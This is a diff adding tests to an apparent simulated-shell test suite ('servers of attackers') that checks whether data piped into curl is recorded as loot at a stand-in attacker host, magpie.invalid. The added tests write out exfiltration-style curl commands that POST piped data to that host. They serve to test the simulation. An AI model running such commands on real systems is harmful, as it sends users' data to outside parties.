@@ -122,6 +122,22 @@ describe("servers of attackers", () => {
     },
   );
 
+  test.each([
+    ["--data-binary @-", "a\nb\n"],
+    ["-d @-", "ab"],
+  ])("curl %s sends what it is given", async (option, body) => {
+    const { world } = setting();
+    await sh(world, `printf 'a\\nb\\n' | curl -s ${option} https://magpie.invalid/x`);
+    expect(loot(world.tables, "magpie")).toMatchObject([{ method: "POST", body }]);
+  });
+
+  test("curl takes a name that is no dash for a file", async () => {
+    const { world } = setting();
+    const { exitCode } = await sh(world, "echo a | curl -s -d @absent https://magpie.invalid/x");
+    expect(exitCode).not.toBe(0);
+    expect(loot(world.tables, "magpie")).toEqual([]);
+  });
+
   test("nobody else's name is one of them", async () => {
     const { world } = setting();
     const { exitCode } = await sh(world, "curl -s https://magpie.invalid.example/ -d x");
